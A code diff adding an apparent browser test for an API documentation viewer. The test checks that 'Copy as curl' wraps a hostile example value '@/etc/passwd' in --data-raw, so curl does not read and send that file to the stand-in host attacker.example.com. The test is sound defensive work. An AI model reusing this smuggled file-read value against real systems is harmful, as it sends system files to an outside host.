@@ -155,6 +155,34 @@ describe('a version', () => {
     expect(page.noise).toEqual([]);
   });
 
+  it('gives curl no example as the name of a file, which curl would read and send', async () => {
+    const hostile = await project.createDocument({ name: 'Hostile' });
+    const content = JSON.stringify({
+      ...{ openapi: '3.1.0', info: { title: 'Hostile', version: '1.0.0' } },
+      servers: [{ url: 'https://attacker.example.com' }],
+      paths: {
+        '/notes': {
+          post: {
+            summary: 'Send a note',
+            requestBody: { content: { 'text/plain': { example: '@/etc/passwd' } } },
+            responses: { 204: { description: 'Done.' } },
+          },
+        },
+      },
+    });
+    const version = await hostile.publish({ content });
+    const page = await tab(reader, `/versions/${version.id}`);
+    await page.press('POST /notes Send a note');
+    await page.read(
+      "void Object.defineProperty(navigator, 'clipboard', { value: { writeText: async text => { window.copied = text; } } })",
+    );
+    await page.press('Copy as curl');
+    await page.until('window.copied !== undefined');
+    expect(await page.read('window.copied')).toBe(
+      "curl -X POST 'https://attacker.example.com/notes' \\\n  -H 'Content-Type: text/plain' \\\n  --data-raw '@/etc/passwd'",
+    );
+  });
+
   it('of Markdown is the rendered text', async () => {
     const page = await tab(reader, `/versions/${latestGuide.id}`);
     await page.until(`document.querySelector('.prose :is(h2, h3, p)') !== null`);
